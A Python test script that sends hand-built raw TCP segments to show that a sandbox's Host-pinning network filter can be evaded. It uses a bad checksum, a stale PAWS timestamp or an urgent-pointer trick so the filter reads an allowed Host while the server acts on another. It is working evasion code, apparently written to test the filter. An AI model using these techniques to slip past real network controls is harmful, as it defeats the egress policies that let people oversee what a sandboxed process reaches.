"""A sandbox process with Docker's default NET_RAW shows the pinning reader bytes the server
never takes: it connects with an ordinary socket, reads the SYN-ACK off its own interface
(AF_PACKET), writes the first segment itself (raw socket) with an allowed Host but a flaw the
server drops it for, waits until told the reader decided, then sends the real request, with
another Host, at the same sequence numbers through its socket.

    insert.py IFACE ADDR PORT MODE      MODE: bad-checksum | old-timestamp | urgent-ack | urgent-ack-followed
Prints "inserted", reads a line from stdin, then prints the outcome as JSON.

urgent-ack writes no data: a payload-less ACK with URG whose urgent pointer names a byte of the
request the socket sends next (the X of "...allowed.test\r\nXHost: same-ip.test"), which the
server's stack then takes out of the stream: one Host to the reader, two to the server.
urgent-ack-followed does the same after a first request on the connection was answered (the
connection is followed: its later requests are judged)."""
import json
import socket
import struct
import sys

from pin_raw import csum, syn_ack

iface, addr, port, mode = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
v6 = ":" in addr
fam = socket.AF_INET6 if v6 else socket.AF_INET
GOOD = b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n"
BAD = b"GET / HTTP/1.1\r\nHost: same-ip.test\r\n\r\n"
assert len(GOOD) == len(BAD)

ETH_P_ALL = 0x0003
sniff = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_ALL))
sniff.bind((iface, 0))
sniff.settimeout(3.0)

s = socket.socket(fam, socket.SOCK_STREAM)
s.settimeout(3.0)
s.connect((addr, port))
src, sport = s.getsockname()[:2]
sa, da = socket.inet_pton(fam, src), socket.inet_pton(fam, addr)


th = syn_ack(sniff, v6, sa, da, port, sport)
seq, ack = struct.unpack("!II", th[4:12])
srv_isn, my_next = seq, ack
tsval_srv = tsecr = None
opts = th[20:(th[12] >> 4) * 4]
i = 0
while i < len(opts):
    k = opts[i]
    if k == 0:
        break
    if k == 1:
        i += 1
        continue
    ln = opts[i + 1]
    if k == 8:
        tsval_srv, tsecr = struct.unpack("!II", opts[i + 2:i + 10])
    i += max(ln, 2)


options = b""
if mode == "old-timestamp":
    assert tsecr is not None, "the server did not negotiate timestamps"
    # Older than what the server holds from our SYN: PAWS discards the segment.
    options = b"\x01\x01\x08\x0a" + struct.pack("!II", (tsecr - 100000) & 0xffffffff, tsval_srv)
doff = (20 + len(options)) // 4
URGENT = b"GET / HTTP/1.1\r\nHost: allowed.test\r\nXHost: same-ip.test\r\n\r\n"
srv_next = srv_isn + 1
if mode == "urgent-ack-followed":
    FIRST = b"GET / HTTP/1.1\r\nHost: allowed.test\r\nConnection: keep-alive\r\n\r\n"
    s.sendall(FIRST)
    answer = b""
    while not answer.endswith(b"host=allowed.test"):
        chunk = s.recv(4096)
        assert chunk, f"the first request was not answered: {answer!r}"
        answer += chunk
    my_next += len(FIRST)
    srv_next += len(answer)
    mode = "urgent-ack"
if mode == "urgent-ack":
    # ACK|URG, no payload; the urgent byte is seq + pointer - 1 (Linux, BSD semantics).
    ptr = URGENT.index(b"XHost") + 1
    tcp = struct.pack("!HHIIBBHHH", sport, port, my_next & 0xffffffff, srv_next & 0xffffffff, doff << 4, 0x30, 65535, 0,
                      ptr)
    BAD = URGENT
else:
    tcp = struct.pack("!HHIIBBHHH", sport, port, my_next, (srv_isn + 1) & 0xffffffff, doff << 4, 0x18, 65535, 0, 0)
    tcp += options + GOOD
if v6:
    pseudo = sa + da + struct.pack("!IxxxB", len(tcp), 6)
else:
    pseudo = sa + da + struct.pack("!xBH", 6, len(tcp))
c = csum(pseudo + tcp)
if mode == "bad-checksum":
    c ^= 0x5555
tcp = tcp[:16] + struct.pack("!H", c) + tcp[18:]
if v6:
    ip = struct.pack("!IHBB", 6 << 28, len(tcp), 6, 64) + sa + da
else:
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0) + sa + da
raw = socket.socket(fam, socket.SOCK_RAW, socket.IPPROTO_RAW)
raw.sendto(ip + tcp, (addr, 0))
print("inserted", flush=True)
sys.stdin.readline()
try:
    s.sendall(BAD)
    data = b""
    while True:
        chunk = s.recv(4096)
        if not chunk:
            break
        data += chunk
    print(json.dumps({"outcome": "reply", "data": data.decode(errors="replace")}), flush=True)
except ConnectionResetError:
    print(json.dumps({"outcome": "reset"}), flush=True)
except OSError as e:
    print(json.dumps({"outcome": "error", "data": str(e)}), flush=True)
